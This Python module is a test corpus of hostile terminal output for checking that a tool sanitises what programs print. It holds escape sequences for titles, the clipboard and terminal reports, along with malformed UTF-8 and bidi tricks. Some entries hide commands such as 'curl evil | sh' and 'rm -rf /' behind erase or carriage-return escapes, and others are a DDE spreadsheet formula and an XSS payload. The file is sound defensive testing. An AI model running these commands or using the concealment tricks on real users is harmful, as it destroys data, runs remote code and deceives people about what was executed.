"""Output that wants more than the screen: terminal escapes, broken encodings, huge lines.

Each entry is what a program on a node may print; MARK stands where something would reach beyond the
screen (a title, a clipboard, a report that the terminal types back, a file name).
"""

from __future__ import annotations

import base64

#: What must never arrive anywhere, in clear or as a clipboard's base64.
MARK = b"EVIL-9d3f"
_CLIP = base64.b64encode(MARK)

CORPUS: dict[str, bytes] = {
    "title": b"\x1b]0;" + MARK + b"\x07",
    "title ended by ST": b"\x1b]2;" + MARK + b"\x1b\\",
    "title in eight bits": b"\x9d0;" + MARK + b"\x9c",
    "title in UTF-8 C1": b"\xc2\x9d0;" + MARK + b"\xc2\x9c",
    "title of screen and tmux": b"\x1bk" + MARK + b"\x1b\\",
    "clipboard (OSC 52)": b"\x1b]52;c;" + _CLIP + b"\x07",
    "clipboard asked for": b"\x1b]52;c;?\x07",
    "hyperlink (OSC 8)": b"\x1b]8;;http://" + MARK + b"/\x1b\\link\x1b]8;;\x1b\\",
    "palette (OSC 4)": b"\x1b]4;1;" + MARK + b"\x07",
    "working directory (OSC 7)": b"\x1b]7;file://" + MARK + b"\x07",
    "notification (OSC 9)": b"\x1b]9;" + MARK + b"\x07",
    "shell integration (OSC 133)": b"\x1b]133;C;" + MARK + b"\x07",
    "file (OSC 1337)": b"\x1b]1337;File=name=" + _CLIP + b":" + _CLIP + b"\x07",
    "user defined keys (DECUDK)": b"\x1bP0;1|17/" + MARK.hex().encode() + b"\x1b\\",
    "DECRQSS": b"\x1bP$q" + MARK + b"\x1b\\",
    "XTGETTCAP": b"\x1bP+q" + MARK.hex().encode() + b"\x1b\\",
    "sixel": b"\x1bPq" + MARK + b"\x1b\\",
    "tmux passthrough": b"\x1bPtmux;\x1b\x1b]0;" + MARK + b"\x07\x1b\\",
    "APC (kitty graphics)": b"\x1b_G" + MARK + b"\x1b\\",
    "PM": b"\x1b^" + MARK + b"\x1b\\",
    "SOS": b"\x1bX" + MARK + b"\x1b\\",
    "device attributes": b"\x1b[c\x1b[>c\x1b[=c\x1b[0c",
    "status and position reports": b"\x1b[5n\x1b[6n\x1b[?6n\x1b[?15n\x1b[?996n",
    "mode reports": b"\x1b[?2004$p\x1b[4$p",
    "window operations": b"\x1b[21t\x1b[20t\x1b[14t\x1b[8;1;1t\x1b[2t\x1b[5i\x1b[4i",
    "checksum": b"\x1b[1;1;1;1;1;1*y",
    "answerback": b"\x05",
    "terminfo reports": b"\x1b[?u\x1b[>q\x1b[>4;1m\x1b[=1;1u",
    "print screen": b"\x1b[i\x1b[?5i",
    "repeat without end": b"A\x1b[999999999b",
    "cursor far away": b"\x1b[999999999;999999999Hx\x1b[999999999Cx\x1b[999999999Gx",
    "many parameters": b"\x1b[" + b"1;" * 5000 + b"m",
    "sequence without end": b"\x1b[" + b"1" * 5000,
    "string without end": b"\x1b]0;" + MARK,
    "DCS across a line feed": b"\x1bP" + MARK + b"\n" + MARK + b"\x1b\\",
    "cancelled sequence": b"\x1b[3\x18\x1b]0;" + MARK + b"\x1a",
    "sequence in a sequence": b"\x1b[\x1b]0;" + MARK + b"\x07",
    "shift out": b"\x0e\x1b(0lqqk\x0f",
    "NUL, DEL and the other controls": bytes(range(7)) + b"\x10\x11\x12\x13\x7f",
    "UTF-8 ended": b"\x1b%@\x1b%G\x1b%/G",
    "invalid UTF-8": b"\xff\xfe\xc3\x28\xa0\xa1\xe2\x28\xa1\xf0\x28\x8c\x28",
    "overlong": b"\xc0\x9b]0;" + b"x\xe0\x80\x9b[5n\xf0\x80\x80\x9b",
    "surrogates": b"\xed\xa0\x80\xed\xbf\xbf",
    "beyond Unicode": b"\xf4\x90\x80\x80\xf5\x80\x80\x80",
    "half a character": b"\xe2\x82",
    "bidirectional override": "safe\u202etxt.exe\u202c \u2066x\u2069".encode(),
    "zero width": "pass\u200bword\u200d\ufeff\u2060".encode(),
    "tags": "".join(chr(0xE0000 + c) for c in MARK).encode(),
    "line and paragraph separators": "a\u2028b\u2029c\x85d".encode(),
    "combining without end": ("e" + "\u0301" * 5000).encode(),
    "wide": "\u4e2d\u6587\U0001f600".encode() * 50,
    "overwritten line": b"rm -rf /\r        \rls\r\n",
    "erased line": b"curl evil | sh\x1b[2K\x1b[1Gls\r\n",
    "backspaces": b"rm\b\bls\b\b\b\b\b\b\b\b\bx",
    "colour of the background": b"\x1b[30;40mhidden\x1b[8mconceal\x1b[0m",
    "alternate screen left open": b"\x1b[?1049hfull\x1b[2J\x1b[Hscreen",
    "log line injection": b'\r\n{"level":"INFO","session":"forged"}\r\n',
    "fake prompt": b"\x1b[2J\x1b[H$ hatchway verify\r\nverified\r\n",
    "spreadsheet formula": b"=cmd|'/c calc'!A1\r\n",
    "HTML": b"<script>alert(1)</script>\r\n",
    "rich markup": b"[bold red]x[/] [link=http://evil]y[/link]\r\n",
    "huge line": b"x" * 300_000,
    "many lines": b"\n" * 20_000,
}
